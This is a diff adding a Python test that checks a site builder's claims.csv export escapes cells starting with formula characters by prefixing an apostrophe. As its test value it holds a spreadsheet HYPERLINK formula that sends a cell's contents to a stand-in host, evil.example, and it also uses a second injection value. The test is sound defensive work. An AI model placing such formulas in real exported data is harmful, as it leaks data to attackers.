@@ -5,6 +5,8 @@ unusual (names in other scripts), builds as it should."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -841,6 +843,31 @@ def test_comments_in_notes_and_pages_are_left_out_and_other_markup_stays_text(ba
     assert "<!-- in code -->" in main_text
     about = soup((out / "about/index.html").read_bytes()).main.get_text(" ")
     assert "Us." in about and "End <!-- open" in about
+
+
+def test_no_cell_of_the_open_data_runs_as_a_spreadsheet_formula(base, tmp_path):
+    """A claim, claimant or passage that starts as a formula does (`=`, `+`, `-`, `@`) is text
+    in claims.csv: an apostrophe before it, as spreadsheets mark text."""
+    trap = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    note = NOTE.replace("claim: A claim", f"claim: '{trap}'").replace(
+        "claimant: X", "claimant: '@SUM(1+1)'"
+    )
+    base.note("n", note)
+    base.seed(
+        "a.txt",
+        "Headline\n\n-5% is what he said, in a short article.\n",
+        url="https://example.org/a",
+    )
+    base.note("m", NOTE.replace("quote: Some words here", "quote: '-5% is what he said'"))
+    base.note("n", note.replace("quote: Some words here", "quote: in a short article"))
+    out = tmp_path / "out"
+    assert main(["build", "--root", str(base.root), "--out", str(out), "--no-cache", "-q"]) == 0
+    rows = {
+        row["note_id"]: row for row in csv.DictReader(io.StringIO((out / "claims.csv").read_text()))
+    }
+    assert rows["n"]["claim"] == "'" + trap and rows["n"]["claimant"] == "'@SUM(1+1)"
+    assert rows["m"]["passage"] == "'-5% is what he said" and rows["m"]["claim"] == "A claim"
+    assert rows["m"]["start"] == "0" and rows["n"]["end"].isdigit()  # numbers stay numbers
 
 
 def test_broken_settings_are_the_one_error_not_one_per_verdict_they_hold(shipped_site, capsys):
